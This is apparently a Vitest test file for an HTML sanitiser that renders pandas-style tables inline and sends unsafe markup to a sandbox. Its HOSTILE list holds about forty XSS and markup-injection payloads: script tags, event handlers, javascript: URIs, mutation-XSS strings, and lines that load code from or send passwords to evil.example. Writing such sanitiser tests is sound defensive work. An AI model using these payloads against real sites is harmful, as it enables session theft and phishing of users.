import { describe, expect, test } from 'vitest';
import { clean, decide } from './html';

const PANDAS = `<div>
<style scoped>
    .dataframe tbody tr th:only-of-type {
        vertical-align: middle;
    }

    .dataframe tbody tr th {
        vertical-align: top;
    }

    .dataframe thead th {
        text-align: right;
    }
</style>
<table border="1" class="dataframe">
  <thead>
    <tr style="text-align: right;">
      <th></th>
      <th>district</th>
      <th>cases</th>
    </tr>
  </thead>
  <tbody>
    <tr>
      <th>0</th>
      <td>Mubende &lt;west&gt;</td>
      <td>64</td>
    </tr>
  </tbody>
</table>
</div>`;

describe('drawn in the page', () => {
  test('a table as pandas prints it', () => {
    const decision = decide(PANDAS);
    if (decision.kind !== 'plain') throw new Error('sent to the sandbox');
    const table = new DOMParser().parseFromString(decision.html, 'text/html').querySelector('table');
    expect(Array.from(table?.querySelectorAll('th, td') ?? [], (cell) => cell.textContent)).toEqual([
      '',
      'district',
      'cases',
      '0',
      'Mubende <west>',
      '64',
    ]);
    expect(decision.html).not.toMatch(/style|class|border/);
  });

  test.each(['<b>Done</b>', '<h2>Title</h2><p>Text<br>more</p>', '<ul><li>one</li></ul>', 'just text', '<td colspan="2">x'])(
    'simple text: %s',
    (html) => {
      expect(decide(html).kind).toBe('plain');
    },
  );

  test('links lead out of the page, without telling where from', () => {
    expect(clean('<a href="https://example.org/x">x</a>')).toBe(
      '<a href="https://example.org/x" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });
});

/** Ways to run code, to restyle the page, to phone home or to dress up as the page. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#x6A;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<table><tr><td onclick="alert(1)">x</td></tr></table>',
  '<table><tr><td style="background:url(https://evil.example/)">x</td></tr></table>',
  '<div style="position:fixed;inset:0;z-index:9999">Your session has ended. Password:</div>',
  '<style>body{display:none}</style>',
  '<style scoped>.dataframe td { background: url("https://evil.example/") }</style><table class="dataframe"></table>',
  '<style scoped>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/">',
  '<form action="https://evil.example/"><input name=password><button>Sign in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<html onmouseover=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><script>alert(1)</script>',
  '<x-element onpointerenter=alert(1)>x</x-element>',
  '<p data-x="1" is="x-element">x</p>',
];

test('columns of words and of numbers are told apart by their cells', () => {
  const html =
    '<table><thead><tr><th>district</th><th>cases</th></tr></thead>' +
    '<tbody><tr><td>Mubende</td><td>1,204.5</td></tr><tr><td>7</td><td>NaN</td></tr><tr><td>...</td><td>...</td></tr></tbody></table>';
  const decision = decide(html);
  if (decision.kind !== 'plain') throw new Error('sent to the sandbox');
  const table = new DOMParser().parseFromString(decision.html, 'text/html').querySelector('table');
  expect(Array.from(table?.querySelectorAll('[data-words]') ?? [], (cell) => cell.textContent)).toEqual(['district', 'Mubende', '7', '...']);
});

describe('never runs in the page', () => {
  test.each(HOSTILE)('%s', (html) => {
    expect(decide(html)).toEqual({ kind: 'sandbox' });
    const page = new DOMParser().parseFromString(clean(html), 'text/html');
    for (const element of page.body.querySelectorAll('*')) {
      expect(['script', 'style', 'iframe', 'img', 'svg', 'math', 'form', 'input', 'button', 'object', 'embed', 'link', 'meta', 'base', 'template', 'details', 'video']).not.toContain(element.localName);
      for (const { name, value } of Array.from(element.attributes)) {
        expect(['href', 'target', 'rel', 'title', 'colspan', 'rowspan']).toContain(name);
        if (name === 'href') expect(value).toMatch(/^(?:https?|mailto):/);
      }
    }
  });

  test('nor with the classes or ids of the page', () => {
    expect(clean('<div class="mantine-Modal-overlay" id="root">x</div>')).toBe('<div>x</div>');
  });
});

test('a huge table is left to the sandbox', () => {
  expect(decide(`<table>${'<tr><td>x</td></tr>'.repeat(30_000)}</table>`)).toEqual({ kind: 'sandbox' });
});

test('merged cells of a table stay merged', () => {
  expect(clean('<table><tbody><tr><td colspan="2" rowspan="3">x</td></tr></tbody></table>')).toContain('<td colspan="2" rowspan="3">');
});
